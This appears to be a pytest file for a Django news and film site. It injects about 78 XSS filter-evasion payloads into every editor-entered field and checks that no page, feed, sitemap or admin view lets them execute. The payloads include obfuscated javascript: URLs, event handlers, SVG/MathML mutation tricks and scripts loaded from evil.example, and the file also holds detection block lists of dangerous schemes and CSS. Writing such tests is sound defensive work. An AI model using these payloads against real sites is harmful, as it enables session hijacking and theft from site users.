"""Editor-entered text never runs as script, wherever it is shown.

Each vector below is a filter-evasion trick in the spirit of the OWASP XSS
cheat sheet (script tags, event handlers, javascript: and data: URLs, SVG and
MathML, CSS expressions, broken markup, comment and raw-text breakouts). One
test per vector puts it into every field editors fill in that reaches readers
or the admin, then reads every page, feed and sitemap that shows those fields
and checks that nothing in them could execute: no script but our own, no
event handler attributes, no script-bearing URLs, no frames, objects or base
elements, no CSS that runs code, JSON-LD that stays JSON, and well-formed
feeds whose HTML fields (RSS descriptions, Atom type="html") pass the same
checks once unescaped.

Each vector carries a marker (XSS01, XSS02, …), so a check can also tell a
payload that survived from the page's own markup, and so each page can show
that the payload really reached it (as harmless text).
"""

import json
import re
from datetime import date
from html.parser import HTMLParser
from urllib.parse import urlencode
from xml.etree import ElementTree

import pytest
from django.core.exceptions import ValidationError
from django.core.validators import URLValidator
from django.urls import reverse
from taggit.models import Tag

from articles.models import Article
from films.models import Credit, Genre
from people.models import PersonLink
from tests.factories import (
    make_article,
    make_credit,
    make_film,
    make_image,
    make_person,
    make_platform,
    make_section,
    make_sister_link,
    make_sister_site,
    unique,
)

pytestmark = pytest.mark.django_db

# A word only the vector's stories contain, so search finds exactly them.
SEARCH_WORD = "Quokkarama"

# "MARK" becomes the vector's marker, e.g. XSS07. Each is at most 180 characters,
# so it fits whole in headlines, names and titles; shorter fields get a prefix.
_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4="  # <script>alert('XSS')</script>
VECTORS = [
    # Script elements, plain and disguised.
    ("script-plain", "<script>alert('MARK')</script>"),
    ("script-mixed-case-src", "<ScRiPt SrC=//evil.example/MARK.js></sCrIpT>"),
    ("script-slash-attribute", '<script/xss src="//evil.example/MARK.js"></script>'),
    ("script-newlines-in-tag", "<script\n>alert('MARK')</script\n>"),
    ("script-nested-halves", "<scr<script>ipt>alert('MARK')</scr</script>ipt>"),
    ("script-unclosed", "<script>alert('MARK')"),
    ("script-extra-open-bracket", "<<script>alert('MARK');//<</script>"),
    ("script-end-tag-breakout", "</script><script>alert('MARK')</script>"),
    ("script-fullwidth-brackets", "\uff1cscript\uff1ealert('MARK')\uff1c/script\uff1e"),
    # Breaking out of attributes, strings and other raw-text elements.
    ("double-quote-breakout", "\"><script>alert('MARK')</script>"),
    ("js-string-minus", "'-alert('MARK')-'"),
    ("json-breakout", "\"}]}</script><script>alert('MARK')</script>"),
    ("title-textarea-breakout", "</title></textarea><script>alert('MARK')</script>"),
    ("style-breakout", "</style><script>alert('MARK')</script>"),
    # Event handlers.
    ("img-onerror", "<img src=x onerror=alert('MARK')>"),
    ("img-onerror-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;('MARK')\">"),
    ("img-slashes-as-spaces", "<img/src='x'/onerror=alert('MARK')>"),
    ("img-eval-own-src", "<img src=x:alert(alt) onerror=eval(src) alt=MARK>"),
    ("img-malformed-quotes", '<IMG """><SCRIPT>alert("MARK")</SCRIPT>">'),
    (
        "allowed-img-with-handler",
        '<img src="https://example.com/a.png" alt="MARK" onerror=alert(1)>',
    ),
    (
        "allowed-link-with-handler",
        '<a href="https://example.com/" onmouseover="alert(\'MARK\')">MARK</a>',
    ),
    ("p-onmouseover", '<p title="MARK" onmouseover="alert(\'MARK\')">hover</p>'),
    ("body-onload", "<body onload=alert('MARK')>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert('MARK')>"),
    ("details-ontoggle", "<details open ontoggle=alert('MARK')>MARK</details>"),
    ("video-source-onerror", "<video><source onerror=\"alert('MARK')\"></video>"),
    # SVG and MathML.
    ("svg-onload", "<svg onload=alert('MARK')>"),
    ("svg-slash-onload", "<svg/onload=alert('MARK')//"),
    ("svg-script", "<svg><script>alert('MARK')</script></svg>"),
    ("svg-script-data-href", "<svg><script xlink:href=\"data:,alert('MARK')\"></script></svg>"),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert('MARK') /><text>MARK</text></a></svg>",
    ),
    ("svg-set-onbegin", "<svg><set attributeName=x to=1 onbegin=alert('MARK')>"),
    (
        "svg-use-data-url",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>MARK",
    ),
    ("math-href", "<math href=\"javascript:alert('MARK')\">MARK</math>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>"),
    # javascript:, vbscript: and data: URLs, obfuscated.
    ("href-javascript", "<a href=\"javascript:alert('MARK')\">MARK</a>"),
    (
        "href-javascript-decimal-entities",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('MARK')\">MARK</a>",
    ),
    (
        "href-javascript-hex-no-semicolons",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('MARK')\">MARK</a>",
    ),
    ("href-javascript-padded-entity", "<a href=\"java&#0000115;cript:alert('MARK')\">MARK</a>"),
    ("href-javascript-colon-entity", "<a href=\"javascript&colon;alert('MARK')\">MARK</a>"),
    ("href-javascript-tab", "<a href=\"jav\tascript:alert('MARK')\">MARK</a>"),
    ("href-javascript-encoded-tab", "<a href=\"jav&#x09;ascript:alert('MARK')\">MARK</a>"),
    ("href-javascript-leading-control", "<a href=\" &#14;  javascript:alert('MARK')\">MARK</a>"),
    ("href-vbscript", "<a href=\"vbscript:msgbox('MARK')\">MARK</a>"),
    ("href-data-html-base64", f'<a href="data:text/html;base64,{_B64_SCRIPT}">MARK</a>'),
    ("href-data-html", "<a href=\"data:text/html,<script>alert('MARK')</script>\">MARK</a>"),
    (
        "mailto-breakout",
        "<a href=\"mailto:x@example.com?body=</a><script>alert('MARK')</script>\">MARK</a>",
    ),
    ("img-src-javascript", "<img src=\"javascript:alert('MARK')\">"),
    ("img-src-backtick-javascript", '<IMG SRC=`javascript:alert("MARK")`>'),
    ("table-background", "<table background=\"javascript:alert('MARK')\"><td>MARK</td></table>"),
    (
        "blockquote-cite",
        '<blockquote class="pull-quote" cite="javascript:alert(\'MARK\')">MARK</blockquote>',
    ),
    # Frames, objects, embeds and other documents.
    ("iframe-javascript", "<iframe src=\"javascript:alert('MARK')\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert('MARK')&lt;/script&gt;\"></iframe>"),
    ("iframe-remote", "<iframe src=//evil.example/MARK></iframe>"),
    ("object-data-base64", f'<object data="data:text/html;base64,{_B64_SCRIPT}">MARK</object>'),
    ("embed-javascript", "<embed src=\"javascript:alert('MARK')\">"),
    ("base-href", "<base href=\"javascript:alert('MARK')//\">"),
    (
        "meta-refresh-javascript",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">',
    ),
    ("link-stylesheet-javascript", "<link rel=stylesheet href=\"javascript:alert('MARK')\">"),
    (
        "form-action",
        "<form action=\"javascript:alert('MARK')\"><input type=submit value=MARK></form>",
    ),
    ("button-formaction", "<form><button formaction=javascript:alert('MARK')>MARK</button></form>"),
    # CSS.
    ("style-import", "<style>@import 'javascript:alert(\"MARK\")';</style>"),
    ("style-moz-binding", '<style>body{-moz-binding:url("//evil.example/MARK.xml#x")}</style>'),
    (
        "style-attr-url-javascript",
        "<div style=\"background:url(javascript:alert('MARK'))\">MARK</div>",
    ),
    ("style-attr-expression", "<div style=\"width:expression(alert('MARK'))\">MARK</div>"),
    (
        "style-attr-split-expression",
        "<div style=\"x:expr/*MARK*/ession(alert('MARK'))\">MARK</div>",
    ),
    (
        "allowed-span-style",
        '<span class="credit" style="x:expression(alert(\'MARK\'))">MARK</span>',
    ),
    # Raw-text and comment tricks that parsers disagree about.
    ("xmp-title-breakout", "<xmp><p title=\"</xmp><img src=x onerror=alert('MARK')>\">"),
    (
        "noscript-title-breakout",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    ),
    ("comment-in-attribute", "<!--<img src=\"--><img src=x onerror=alert('MARK')//\">"),
    ("cdata-section", "<![CDATA[<script>alert('MARK')</script>]]>"),
    (
        "xml-processing-instruction",
        '<?xml-stylesheet type="text/xsl" href="javascript:alert(\'MARK\')"?>MARK',
    ),
    ("template-element", "<template><script>alert('MARK')</script></template>MARK"),
    # Aimed at Metro's own markup: library figures rebuilt from the image library.
    (
        "figure-id-attribute-breakout",
        '<figure class="media-image" data-image-id=\'1" onload="alert(`MARK`)\'>MARK</figure>',
    ),
    (
        "figure-with-script",
        '<figure class="media-image" data-image-id="x"><script>alert(\'MARK\')</script></figure>',
    ),
]
VECTOR_PARAMS = [
    pytest.param(template.replace("MARK", f"XSS{number:02d}"), f"XSS{number:02d}", id=name)
    for number, (name, template) in enumerate(VECTORS, start=1)
]

# Attributes holding a URL that a browser may load, navigate to or run.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "background",
    "dynsrc",
    "lowsrc",
    "codebase",
    "cite",
    "longdesc",
    "ping",
    "manifest",
    "icon",
    "usemap",
    "archive",
    "classid",
}
# SVG animation attributes can set a URL attribute to any value.
ANIMATION_ATTRIBUTES = {"values", "to", "from", "by"}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:", "mocha:", "data:")
# Elements that load or run another document, or redirect what the page's links mean.
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
STYLE_DANGERS = ("expression(", "javascript:", "vbscript:", "-moz-binding", "behavior:", "@import")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]")


def normalized(value):
    """A URL or CSS as a browser reads it: no whitespace or control characters, lower case."""
    return _INVISIBLE.sub("", value or "").lower()


class ExecutableParts(HTMLParser):
    """Collects everything in an HTML document that could run script.

    `problems` lists what must not be there. No page has event handler
    attributes or javascript:/data: URLs of its own, so none may have any.
    Public pages have no scripts but JSON-LD; admin pages also load their
    scripts from our static files and have an import map.
    """

    # Elements whose content browsers read as text up to their end tag, whatever
    # it holds: a payload that closes one early lands in markup (<xmp><p title="</xmp>…).
    CDATA_CONTENT_ELEMENTS = (
        "script",
        "style",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "noscript",
        "title",
        "textarea",
    )

    def __init__(self, marker, *, public, static_prefixes):
        super().__init__(convert_charrefs=True)
        self.marker = marker.lower()
        self.public = public
        self.static_prefixes = static_prefixes
        self.problems = []
        self.json_ld = []
        self._script = None  # (attrs, chunks) while inside a <script>.
        self._style = None  # chunks while inside a <style>.

    def problem(self, what):
        self.problems.append(what)

    def handle_starttag(self, tag, attrs):
        self.check_element(tag, attrs)
        if tag == "script":
            self._script = (dict(attrs), [])
        elif tag == "style":
            self._style = []

    def handle_startendtag(self, tag, attrs):
        self.check_element(tag, attrs)
        if tag == "script":
            self.check_script(dict(attrs), "")

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attrs, chunks = self._script
            self._script = None
            self.check_script(attrs, "".join(chunks))
        elif tag == "style" and self._style is not None:
            css = "".join(self._style)
            self._style = None
            self.check_css("<style>", css)
            if re.search(r"<[a-z/!?]", css, re.IGNORECASE):
                # Inside <svg> or <math>, <style> holds markup, not text (mutation XSS).
                self.problem(f"markup inside <style>: {css[:300]!r}")

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        elif self._style is not None:
            self._style.append(data)

    def close(self):
        if self.cdata_elem is not None:
            # The parser keeps the unterminated rest of the page to itself.
            self.problem(f"unclosed <{self.cdata_elem}> swallows: {self.rawdata[:300]!r}")
        super().close()

    def check_element(self, tag, attrs):
        if tag in FORBIDDEN_ELEMENTS:
            self.problem(f"<{tag}> element: {attrs!r}")
        names = {name for name, _ in attrs}
        values = dict(attrs)
        if tag == "meta" and "http-equiv" in names:
            self.problem(f"<meta http-equiv>: {attrs!r}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problem(f"event handler on <{tag}>: {name}={value!r}")
            elif name == "srcdoc":
                self.problem(f"srcdoc on <{tag}>: {value!r}")
            elif name in URL_ATTRIBUTES:
                self.check_url(tag, name, value)
            elif name in ANIMATION_ATTRIBUTES and "javascript:" in normalized(value):
                self.problem(f"animation to a javascript: URL on <{tag}>: {value!r}")
            elif name == "style":
                self.check_css(f"style on <{tag}>", value)
        if tag == "link" and "import" in normalized(values.get("rel")):
            self.problem(f"HTML import: {attrs!r}")

    def check_url(self, tag, name, value):
        if normalized(value).startswith(SCRIPT_SCHEMES):
            self.problem(f"script-bearing URL in <{tag} {name}>: {value!r}")

    def check_css(self, where, css):
        text = normalized(css)
        if self.marker in text or any(danger in text for danger in STYLE_DANGERS):
            self.problem(f"dangerous CSS in {where}: {css!r}")

    def check_script(self, attrs, text):
        kind = (attrs.get("type") or "").strip().lower()
        if kind == "application/ld+json":
            self.json_ld.append(text)
            if re.search(r"</script|<!--", text, re.IGNORECASE):
                self.problem(f"JSON-LD that can end its script element: {text[:300]!r}")
            try:
                json.loads(text)
            except ValueError as error:
                self.problem(f"JSON-LD that is not JSON ({error}): {text[:300]!r}")
            return
        if not self.public and kind == "importmap":
            try:
                json.loads(text)
            except ValueError as error:
                self.problem(f"import map that is not JSON ({error}): {text[:300]!r}")
            if self.marker in text.lower():
                self.problem(f"payload in the import map: {text[:300]!r}")
            return
        src = attrs.get("src")
        if src is None:
            self.problem(f"inline script: {text[:300]!r}")
        elif not src.startswith(self.static_prefixes) or self.marker in src.lower():
            self.problem(f"script from elsewhere: {src!r}")
        elif text.strip():
            self.problem(f"script with both src and a body: {text[:300]!r}")


def executable_parts(html, marker, *, public):
    admin_scripts = (reverse("admin:jsi18n"),) if not public else ()
    parser = ExecutableParts(marker, public=public, static_prefixes=("/static/", *admin_scripts))
    parser.feed(html)
    parser.close()
    return parser


def local_name(tag):
    return tag.rpartition("}")[2]


# HTML elements that have no business in a feed or sitemap's own vocabulary.
HTML_IN_XML = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "img",
    "svg",
    "math",
    "a",
    "body",
    "html",
    "meta",
    "base",
    "form",
    "input",
    "button",
    "xmp",
    "noscript",
    "details",
    "video",
    "audio",
}
ATOM = "{http://www.w3.org/2005/Atom}"


def feed_problems(xml, marker):
    """What could run in a feed: injected elements, or HTML fields whose markup could run."""
    root = ElementTree.fromstring(xml)  # Raises on anything not well-formed.
    problems = []
    for element in root.iter():
        name = local_name(element.tag)
        if name in HTML_IN_XML:
            problems.append(f"<{element.tag}> element in the feed")
        for attribute, value in element.attrib.items():
            if local_name(attribute).startswith("on"):
                problems.append(f"{attribute}={value!r} on <{element.tag}>")
        is_rss_html = element.tag == "description"
        is_atom_html = element.tag.startswith(ATOM) and element.get("type") == "html"
        if (is_rss_html or is_atom_html) and element.text:
            parts = executable_parts(element.text, marker, public=True)
            problems += [f"in <{name}>: {problem}" for problem in parts.problems]
    return problems


def sitemap_problems(xml):
    root = ElementTree.fromstring(xml)
    return [
        f"<{element.tag}> element in a sitemap"
        for element in root.iter()
        if local_name(element.tag) in HTML_IN_XML
    ]


def fit(vector, marker, length):
    """`vector`, or as much of it as a field of `length` holds (PostgreSQL enforces
    max_length) after the marker, so that the page still shows the marker."""
    return vector if len(vector) <= length else f"{marker} {vector}"[:length]


def web_url_with(vector, marker):
    """An http URL an editor could enter in a URL field, with as much of the payload as passes."""
    for candidate in (
        vector,
        f"https://evil.example/{marker}?q=\"'><script>alert('{marker}')</script>",
    ):
        try:
            URLValidator(schemes=["http", "https"])(candidate)
        except ValidationError:
            continue
        return candidate
    raise AssertionError("no valid URL")  # pragma: no cover


def newsroom(vector, marker):
    """Every editor-entered field a reader or editor sees, holding `vector`."""
    url = web_url_with(vector, marker)
    image = make_image(
        title=fit(vector, marker, 200),
        alt_text=vector,
        caption=vector,
        credit=vector,
        credit_url=url,
        copyright=vector,
    )
    image.tags.add(fit(vector, marker, 100))
    section = make_section(name=fit(vector, marker, 80), description=vector)
    person = make_person(
        name=vector,
        description=vector,
        bio=f"{vector}\n\n{vector}",
        website=url,
        portrait=image,
    )
    PersonLink.objects.create(person=person, label=fit(vector, marker, 60), url=url)
    platform = make_platform(name=fit(vector, marker, 100), url=url)
    genre = Genre.objects.create(name=fit(vector, marker, 60), slug=unique("genre"))
    film = make_film(
        title=vector,
        synopsis=f"{vector}\n\n{vector}",
        rating=fit(vector, marker, 20),
        release_date=date(2024, 5, 17),
        platform=platform,
        poster=image,
        trailer_url=url,
    )
    film.genres.add(genre)
    make_credit(film, person, role=Credit.Role.ACTOR, character_name=vector)
    make_credit(film, person, role=Credit.Role.DIRECTOR)
    # The slug is made from the vector, as taggit makes it when an editor types the tag.
    tag = Tag.objects.create(name=fit(vector, marker, 100))
    figure = f'<figure class="media-image" data-image-id="{image.pk}"></figure>'
    common = {
        "section": section,
        "headline": vector,
        "standfirst": f"{SEARCH_WORD} {vector}",
        "hero_image": image,
        "hero_caption": vector,
        "seo_title": fit(vector, marker, 70),
        "seo_description": fit(vector, marker, 160),
        "featured": True,
        "authors": [person],
    }
    story = make_article(
        live=True,
        body=f"{vector}<p>{SEARCH_WORD} {vector}</p>{figure}<p><em>{vector}</em></p>",
        **common,
    )
    # A story whose stored body never went through the sanitiser (an import, an
    # old row): the page sanitises again on the way out.
    # Its hero shows the image's own caption.
    legacy = make_article(live=True, **(common | {"hero_caption": ""}))
    Article.objects.filter(pk=legacy.pk).update(
        body=f"{vector}<p>{vector}</p>{figure}", body_text=f"{SEARCH_WORD} {vector}"
    )
    for article in (story, legacy):
        article.tags.add(tag)
        article.people.add(person)
        article.films.add(film)
    site = make_sister_site(
        name=fit(vector, marker, 100),
        home_url=url,
        feed_url=url,
        last_refresh_ok=False,
        last_error=vector,
    )
    make_sister_link(site, title=vector, url=url, image_url=url)
    return {
        "story": story,
        "legacy": legacy,
        "section": section,
        "person": person,
        "film": film,
        "tag": tag,
        "image": image,
        "site": site,
    }


def public_pages(objects, vector):
    story, section, tag, person = (objects[key] for key in ("story", "section", "tag", "person"))
    return {
        "home": reverse("home"),
        "section": section.get_absolute_url(),
        "story": story.get_absolute_url(),
        "legacy story": objects["legacy"].get_absolute_url(),
        "tag": reverse("articles:tag", kwargs={"slug": tag.slug}),
        "author": reverse("articles:author", kwargs={"slug": person.slug}),
        "person": person.get_absolute_url(),
        "film": objects["film"].get_absolute_url(),
        "search": f"{reverse('articles:search')}?{urlencode({'q': SEARCH_WORD})}",
        "search for the payload": f"{reverse('articles:search')}?{urlencode({'q': vector})}",
    }


def feeds(objects):
    paths = {}
    for kind in ("rss", "atom"):
        paths[f"site {kind}"] = reverse("articles:feed", kwargs={"kind": kind})
        paths[f"section {kind}"] = reverse(
            "articles:section_feed", kwargs={"section": objects["section"].slug, "kind": kind}
        )
        paths[f"tag {kind}"] = reverse(
            "articles:tag_feed", kwargs={"slug": objects["tag"].slug, "kind": kind}
        )
        paths[f"author {kind}"] = reverse(
            "articles:author_feed", kwargs={"slug": objects["person"].slug, "kind": kind}
        )
    return paths


SITEMAPS = [
    "/sitemap.xml",
    *(f"/sitemap-{name}.xml" for name in ("articles", "sections", "tags", "people", "films")),
    "/news-sitemap.xml",
]
ADMIN_CHANGELISTS = [
    "articles_article",
    "articles_section",
    "people_person",
    "films_film",
    "films_credit",
    "films_platform",
    "films_genre",
    "media_image",
    "media_keyword",
    "sister_sites_sistersite",
    "sister_sites_sisterlink",
    "taggit_tag",
]


def admin_pages(objects):
    pages = {name: reverse(f"admin:{name}_changelist") for name in ADMIN_CHANGELISTS}
    # The forms with Metro's own widgets: the story editor, tags, the focal point picker.
    for name, key in [("articles_article", "story"), ("media_image", "image")]:
        pages[f"{name} form"] = reverse(f"admin:{name}_change", args=[objects[key].pk])
    pages["preview"] = objects["story"].get_preview_url()
    return pages


@pytest.mark.parametrize(("vector", "marker"), VECTOR_PARAMS)
def test_no_vector_executes_anywhere(client, admin_client, vector, marker):
    objects = newsroom(vector, marker)
    problems = []

    def fetch(c, path):
        response = c.get(path)
        assert response.status_code == 200, f"{path}: {response.status_code}"
        return response.content.decode()

    for name, path in public_pages(objects, vector).items():
        html = fetch(client, path)
        assert marker in html, f"the payload never reached the {name} page"
        found = executable_parts(html, marker, public=True)
        assert found.json_ld, f"no JSON-LD on the {name} page"
        problems += [f"{name} page ({path}): {problem}" for problem in found.problems]

    for name, path in feeds(objects).items():
        xml = fetch(client, path)
        assert marker in xml, f"the payload never reached the {name} feed"
        problems += [f"{name} feed ({path}): {problem}" for problem in feed_problems(xml, marker)]

    for path in SITEMAPS:
        xml = fetch(client, path)
        if path == "/news-sitemap.xml":  # The only one with titles.
            assert marker in xml, "the payload never reached the news sitemap"
        problems += [f"{path}: {problem}" for problem in sitemap_problems(xml)]

    for name, path in admin_pages(objects).items():
        html = fetch(admin_client, path)
        assert marker in html, f"the payload never reached the admin's {name}"
        found = executable_parts(html, marker, public=False)
        problems += [f"admin {name} ({path}): {problem}" for problem in found.problems]

    assert not problems, "\n".join(problems)


def test_there_are_enough_distinct_vectors():
    templates = [template for _, template in VECTORS]
    names = [name for name, _ in VECTORS]
    assert len(VECTORS) >= 50
    assert len(set(templates)) == len(templates)
    assert len(set(names)) == len(names)
    assert all("MARK" in template and len(template) <= 180 for template in templates)


@pytest.mark.parametrize("kind", ["rss", "atom"])
def test_feed_descriptions_are_escaped_text(client, kind):
    """An RSS channel's description is HTML to feed readers, so plain text is escaped
    once; Atom's subtitle is text (no type), so it is not."""
    text = "Festivals <b>& juries</b> <script>alert('XSS')</script>"
    section = make_section(description=text)
    make_article(live=True, section=section)
    path = reverse("articles:section_feed", kwargs={"section": section.slug, "kind": kind})
    root = ElementTree.fromstring(client.get(path).content)
    if kind == "rss":
        shown = root.find("channel/description").text
        assert (
            shown
            == "Festivals &lt;b&gt;&amp; juries&lt;/b&gt; &lt;script&gt;alert('XSS')&lt;/script&gt;"
        )
    else:
        assert root.find(f"{ATOM}subtitle").get("type") in (None, "text")
        assert root.find(f"{ATOM}subtitle").text == text
